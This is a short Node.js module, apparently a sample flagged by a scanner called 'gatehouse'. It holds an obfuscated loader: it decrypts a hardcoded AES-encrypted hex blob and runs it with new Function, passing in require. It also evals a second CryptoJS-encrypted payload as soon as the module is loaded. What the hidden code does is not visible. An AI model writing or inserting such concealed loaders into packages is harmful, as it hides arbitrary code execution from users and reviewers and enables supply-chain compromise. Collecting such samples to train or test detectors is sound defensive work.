const CryptoJS = require("crypto-js");
const crypto = require("node:crypto");

const SEALED = "2f8104fba08f6d3682da2bd8e369316bf60b7d9b3263896cf7460650a9bcc94f15dc3e72eec2df9d268ef50038b68ea8ddf8fff4cf9eab5c8acf590e1503bbf16480df2f73bb47a41331fe204258ef046efee8f29b9b12888fdeb127715ab116da253c4ef242b054594c774d5a70c6ace0c47b85454c2101";

function start() {
  const d = crypto.createDecipheriv("aes-256-cbc", Buffer.from("k".repeat(32)), Buffer.alloc(16));
  const text = d.update(SEALED, "hex", "utf8") + d.final("utf8");
  new Function("require", text)(require); // gatehouse: flagged
}

eval(CryptoJS.AES.decrypt("U2FsdGVkX1gAAAAABGTd7FguoV8FWnFbB0JxXujr4qqaaABvvLOzAxzXMcU1vsHiQMaRiNTN9Ox98whGcTZc1UWb5fxzpF7STG7nVLe3lARUsRJlNONwktN9ugkZeESG61she_QAqq0nv3Vth1Ls6v6-O9JL8ZsoWw_Rxl-IUiTeNUJ-HLRwb8GPJ7KTSJS0Sw5UQ", "tiles").toString(CryptoJS.enc.Utf8)); // gatehouse: flagged
module.exports = { start };
